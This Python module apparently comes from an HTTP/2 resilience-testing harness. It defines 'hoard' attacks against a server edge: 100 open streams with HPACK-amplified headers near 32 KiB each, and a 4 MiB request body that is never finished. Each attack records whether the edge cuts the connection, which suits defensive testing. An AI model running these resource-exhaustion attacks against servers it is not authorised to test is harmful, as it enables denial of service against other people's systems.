"""Attackers that make the edge hold much for little, and then wait. Each keeps to every limit of a single stream."""

import dataclasses

from . import frames
from .blocks import outcome_of
from .connection import Connection, Target, Unanswered
from .floods import stream_of
from .siege import Outcome

STREAMS = 100
"""LIMITS: concurrent streams of a connection."""


@dataclasses.dataclass(frozen=True)
class HeaderHoard:
    """Every stream has a head just below 32 KiB, in some 200 bytes on the wire, and stays open: its request does not end,
    or its answer finds no window."""

    name: str
    finished: bool
    field: tuple[bytes, bytes]
    references: int

    def __call__(self, target: Target, source: str) -> Outcome:
        opening = frames.PREFACE + frames.settings((frames.INITIAL_WINDOW_SIZE, 0))
        with Connection(target, source, opening=opening) as connection:
            block = target.models() if self.finished else target.chat()
            connection.send(frames.headers(1, block + frames.literal(*self.field, remembered=True)))
            block += frames.indexed(62) * self.references
            for index in range(1, STREAMS):
                connection.send(frames.headers(stream_of(index), block, ends=self.finished))
            try:
                held = connection.answers()
            except Unanswered as error:
                return outcome_of(connection, cut=False, words=str(error))
            return outcome_of(connection, cut=not held, sent=STREAMS)


HEADER_HOARDS = [
    HeaderHoard("requests that do not end", False, (b"x", b"y" * 3900), 7),
    HeaderHoard("answers without a window", True, (b"x", b"y" * 3900), 7),
    HeaderHoard("cookie crumbs", False, (b"cookie", b"a" * 300), 85),
]


@dataclasses.dataclass(frozen=True)
class BodyHoard:
    """Sends most of a large body and keeps the rest."""

    name: str
    bytes_sent: int = 4 << 20
    """Below the limit of one request."""

    def __call__(self, target: Target, source: str) -> Outcome:
        with Connection(target, source) as connection:
            body = target.body("hoard" + "x" * self.bytes_sent)[: self.bytes_sent]
            connection.send(frames.headers(1, target.chat(), ends=False))
            try:
                sent = self._send_as_allowed(connection, body)
                held = connection.answers()
            except Unanswered as error:
                return outcome_of(connection, cut=False, words=str(error))
            return outcome_of(connection, cut=not held or connection.done(1), sent=sent)

    @staticmethod
    def _send_as_allowed(connection: Connection, body: bytes) -> int:
        """Keeps to the edge's windows, so that nothing but the hoard itself is to blame."""
        sent = 0
        while sent < len(body) and not connection.done(1) and not connection.cut:
            connection.until(lambda: connection.window(1) > 0 or connection.done(1) or connection.cut)
            part = body[sent : sent + min(16_000, connection.window(1))]
            if not part or not connection.send(frames.data(1, part, ends=False)):
                break
            connection.spend(1, len(part))
            sent += len(part)
        return sent


BODY_HOARDS = [BodyHoard("four megabytes of a body")]
